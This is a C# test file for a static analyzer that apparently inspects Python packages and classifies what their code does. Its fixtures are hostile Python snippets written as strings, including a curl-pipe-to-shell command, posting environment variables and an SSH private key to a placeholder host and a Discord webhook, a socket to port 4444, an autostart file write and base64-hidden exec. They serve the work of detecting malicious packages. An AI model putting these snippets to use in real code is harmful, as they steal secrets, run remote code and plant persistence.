using System.Collections.Immutable;
using System.Text;
using Assay.Engine.Capabilities;
using Assay.Engine.Findings;
using Assay.Python.Meaning;

namespace Assay.Tests.Engine.Capabilities;

public sealed class FactReaderTests
{
    private static readonly string s_hole = TextValue.Hole.ToString();

    [Fact]
    public void A_command_list_is_a_command_line()
    {
        Fact fact = Single(Capability.Spawn, "import subprocess as s\ns.Popen(['bash', '-c', 'curl https://example.invalid/x | sh'])\n");
        Assert.Equal("subprocess.Popen", fact.Api);
        Assert.Equal("bash -c 'curl https://example.invalid/x | sh'", fact.Target);
        Assert.True(CommandClasses.Of(fact.Target).Is(CommandClass.DownloadAndRun));
        Assert.Equal(CodeContext.Import, fact.Context);
        Assert.True(fact.RunsByItself);
        Assert.Equal((2, 1), (fact.Place.Line, fact.Place.Column));
        Assert.Equal("s.Popen(['bash', '-c', 'curl https://example.invalid/x | sh'])", fact.Line);
    }

    [Fact]
    public void Words_given_one_by_one_are_a_command_line() =>
        Assert.Equal("sh -c id", Single(Capability.Spawn, "import os\nos.execlp('sh', '-c', 'id')").Target);

    [Fact]
    public void The_interpreter_is_named_in_a_command_line() =>
        Assert.Equal("sys.executable -m pip install demo", Single(Capability.Spawn, "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'demo'])").Target);

    [Fact]
    public void What_is_not_known_of_a_target_is_a_hole() =>
        Assert.Equal($"https://example.invalid/{s_hole}", Single(Capability.Fetch, "import requests\ndef f(x):\n    requests.get(f'https://example.invalid/{x}')").Target);

    [Fact]
    public void The_environment_that_is_posted_is_on_the_data_of_the_fact()
    {
        Fact fact = Single(Capability.Send, "import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))");
        Assert.Equal("https://example.invalid/x", fact.Target);
        Assert.True(fact.DataLabels.HasFlag(Labels.Environment), fact.DataLabels.ToString());
        Assert.False(fact.TargetLabels.HasFlag(Labels.Environment));
    }

    [Fact]
    public void A_secret_in_the_query_is_on_the_target()
    {
        Fact fact = Single(Capability.Fetch, "import os, urllib.request\nurllib.request.urlopen('https://example.invalid/?t=' + os.environ['GITHUB_TOKEN'])");
        Assert.True(fact.TargetLabels.HasFlag(Labels.EnvironmentSecret), fact.TargetLabels.ToString());
        Assert.Equal($"https://example.invalid/?t={s_hole}", fact.Target);
    }

    [Fact]
    public void A_fetch_with_a_body_is_a_send()
    {
        Assert.Equal("https://example.invalid/a", Single(Capability.Send, "import urllib.request as u\nu.urlopen('https://example.invalid/a', b'x')").Target);
        Assert.Equal("https://example.invalid/b", Single(Capability.Send, "from urllib.request import Request, urlopen\nurlopen(Request('https://example.invalid/b', data=b'x'))").Target);
        Assert.Equal("https://example.invalid/c", Single(Capability.Fetch, "from urllib.request import Request, urlopen\nurlopen(Request('https://example.invalid/c'))").Target);
        Assert.Equal("https://example.invalid/d", Single(Capability.Fetch, "import requests\nrequests.request('GET', 'https://example.invalid/d')").Target);
    }

    [Fact]
    public void A_client_carries_its_host_to_what_it_is_asked_for()
    {
        Fact fact = Single(Capability.Send, "import http.client\nc = http.client.HTTPSConnection('discord.com')\nc.request('POST', '/api/webhooks/1/x', body='a')");
        Assert.Equal("discord.com/api/webhooks/1/x", fact.Target);
        Assert.Equal(HostClass.Webhook, HostClasses.Of(fact.Target).Class);
    }

    [Fact]
    public void A_session_is_followed_to_its_methods() =>
        Assert.Equal("requests.Session().post", Single(Capability.Send, "import requests\nwith requests.Session() as s:\n    s.post('https://example.invalid/x', data='a')").Api);

    [Fact]
    public void A_socket_is_followed_to_its_methods()
    {
        ImmutableArray<Fact> facts = Facts("import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nwhile True:\n    d = s.recv(10)\n    s.send(d)");
        Assert.Equal("192.0.2.1:4444", Assert.Single(facts, static fact => fact.Capability == Capability.Connect).Target);
        Assert.True(Assert.Single(facts, static fact => fact.Capability == Capability.Send).DataLabels.HasFlag(Labels.Received));
    }

    [Fact]
    public void A_webhook_object_carries_its_address()
    {
        Fact fact = Single(Capability.Send, "from discord import SyncWebhook\nw = SyncWebhook.from_url('https://discord.com/api/webhooks/1/x')\nw.send(open('/home/u/.ssh/id_rsa').read())");
        Assert.Equal("https://discord.com/api/webhooks/1/x", fact.Target);
        Assert.True(fact.DataLabels.HasFlag(Labels.SecretFile), fact.DataLabels.ToString());
    }

    [Fact]
    public void The_mode_says_whether_a_file_is_read_or_written()
    {
        Assert.Equal("/tmp/a", Single(Capability.ReadFile, "open('/tmp/a').read()").Target);
        ImmutableArray<Fact> facts = Facts("with open('/tmp/b', 'w') as f:\n    f.write('x')");
        Assert.All(facts, static fact => Assert.Equal((Capability.WriteFile, "/tmp/b"), (fact.Capability, fact.Target)));
        Assert.Contains(facts, static fact => fact.Api == "builtins.open().write");
    }

    [Fact]
    public void A_path_object_stands_for_its_path()
    {
        Fact fact = Single(Capability.WriteFile, "from pathlib import Path\n(Path.home() / '.config' / 'autostart' / 'x.desktop').write_text('x')");
        Assert.Equal(PathClass.Autostart, PathClasses.Of(fact.Target).Class);
    }

    [Fact]
    public void Executed_text_is_one_fact_and_a_layer()
    {
        FactReading reading = Read(("demo/__init__.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))\n"));
        Fact executes = Assert.Single(reading.Behaviour.Facts, static fact => fact.Capability == Capability.ExecuteCode);
        DecodedLayer layer = Assert.Single(reading.Behaviour.Layers);
        Assert.Equal(1, executes.ExecutedLayer);
        Assert.True(executes.TargetLabels.HasFlag(Labels.Decoded));
        Assert.Equal("import os\nos.system('id')", layer.Text);
        Assert.Equal((CodeContext.Import, 1, 0), (layer.Context, layer.Depth, layer.Parent));
        Fact inside = Assert.Single(reading.Behaviour.Facts, static fact => fact.Capability == Capability.Spawn);
        Assert.Equal(("id", 1, 2), (inside.Target, inside.Layer, inside.Place.Line));
        Assert.StartsWith("line 2: exec", Assert.Single(inside.Place.Layers), StringComparison.Ordinal);
        Assert.Null(inside.Place.Offset);
        Assert.Equal("os.system('id')", inside.Line);
    }

    [Fact]
    public void A_literal_import_is_no_fact_and_a_computed_one_is_one()
    {
        Assert.Empty(Facts("import importlib\nimportlib.import_module('json')").Where(static fact => fact.Capability == Capability.ImportDynamic));
        Assert.Single(Facts("import importlib, sys\nimportlib.import_module(sys.argv[1])"), static fact => fact.Capability == Capability.ImportDynamic);
    }

    [Fact]
    public void The_trail_says_why_code_runs_and_through_what()
    {
        Fact fact = Single(Capability.Spawn, "import os\ndef go():\n    os.system('id')\ngo()\n");
        Assert.Equal("importing demo runs it", fact.Trail[0]);
        Assert.Contains(fact.Trail, static step => step.StartsWith("demo/__init__.py:4 ", StringComparison.Ordinal));
    }

    [Fact]
    public void Texts_are_whole_and_without_documentation()
    {
        FactReading reading = Read(("demo/__init__.py", "'''about this module'''\na = 'abcd' 'efgh'\nb = f'x-{a}-yz'\nc = 'no'\nd = b'bytes'\ne = 'abcdefgh'\nimport os\nos.system('part' + 'ly')\n"));
        Assert.Equal(["abcdefgh", $"x-{s_hole}-yz", "bytes", "part", "partly"], Assert.Single(reading.Behaviour.Modules).Texts);
    }

    [Fact]
    public void Bytecode_that_cannot_be_read_is_a_gap_where_it_could_run()
    {
        PythonFile file = FileOf("demo/x.pyc", "not bytecode at all", CodeContext.Import) with { IsBytecode = true };
        FactReading reading = Read([file]);
        Assert.Equal((GapKind.BytecodeUnreadable, GapWeight.Blind), Assert.Single(reading.Gaps) is Gap gap ? (gap.Kind, gap.Weight) : default);
        Assert.False(Assert.Single(reading.Behaviour.Modules).IsRead);
        Assert.Equal(GapWeight.Opaque, Assert.Single(Read([file with { Context = CodeContext.Test }]).Gaps).Weight);
    }

    [Fact]
    public void Text_that_cannot_be_parsed_is_a_gap_and_the_rest_is_read()
    {
        FactReading reading = Read(("demo/__init__.py", "import os\n)))\nos.system('id')\n"));
        Assert.Equal((GapKind.PythonUnparsed, GapWeight.Blind), Assert.Single(reading.Gaps) is Gap gap ? (gap.Kind, gap.Weight) : default);
        Assert.Single(reading.Behaviour.Facts, static fact => fact.Capability == Capability.Spawn);
    }

    [Fact]
    public void A_codec_that_hides_code_is_a_blind_gap()
    {
        FactReading reading = Read(("demo/__init__.py", "# coding: utf-7\nx = 1\n"));
        Assert.Contains(reading.Gaps, static gap => gap is { Kind: GapKind.PythonEncoding, Weight: GapWeight.Blind });
    }

    [Fact]
    public void A_budget_that_ends_is_a_gap_that_names_limit_and_file()
    {
        string text = "x = 0\n" + string.Concat(Enumerable.Repeat("x = x + 1\n", 5_000));
        FactReading reading = FactReader.Read(
            [FileOf("demo/__init__.py", text, CodeContext.Import)], static _ => null, [], ProgramLimits.Default with { MaxSteps = 1_000, MaxModuleSteps = 1_000 }, TestContext.Current.CancellationToken);
        Assert.Contains(reading.Gaps, static gap => gap is { Kind: GapKind.PythonBudget, Weight: GapWeight.Blind, Limit: not null } && gap.Place.Describe().StartsWith("demo/__init__.py", StringComparison.Ordinal));
    }

    [Fact]
    public void Triggers_and_contexts_are_the_same_list() =>
        Assert.Equal(Enum.GetNames<CodeContext>(), Enum.GetNames<Trigger>());

    [Fact]
    public void The_order_of_files_changes_nothing_but_numbers()
    {
        PythonFile[] files =
        [
            FileOf("demo/__init__.py", "from .a import go\ngo()\n", CodeContext.Import),
            FileOf("demo/a.py", "import os\ndef go():\n    os.system('id')\n", CodeContext.Import),
        ];
        string[] there = [.. Read(files).Behaviour.Facts.Select(static fact => $"{fact.Api} {fact.Place.Describe()} {fact.Context}").Order(StringComparer.Ordinal)];
        string[] back = [.. Read([files[1], files[0]]).Behaviour.Facts.Select(static fact => $"{fact.Api} {fact.Place.Describe()} {fact.Context}").Order(StringComparer.Ordinal)];
        Assert.NotEmpty(there);
        Assert.Equal(there, back);
    }

    private static Fact Single(Capability capability, string text) => Assert.Single(Facts(text), fact => fact.Capability == capability);

    private static ImmutableArray<Fact> Facts(string text) => Read(("demo/__init__.py", text)).Behaviour.Facts;

    private static FactReading Read((string Path, string Text) file) => Read([FileOf(file.Path, file.Text, CodeContext.Import)]);

    private static FactReading Read(PythonFile[] files) =>
        FactReader.Read([.. files], static _ => null, [], ProgramLimits.Default, TestContext.Current.CancellationToken);

    private static PythonFile FileOf(string path, string text, CodeContext context)
    {
        string module = path[..path.LastIndexOf('.')].Replace('/', '.').Replace(".__init__", "", StringComparison.Ordinal);
        return new PythonFile([path], module, path.EndsWith("__init__.py", StringComparison.Ordinal), context, $"importing {module} runs it", false, [], Encoding.UTF8.GetBytes(text), false);
    }
}
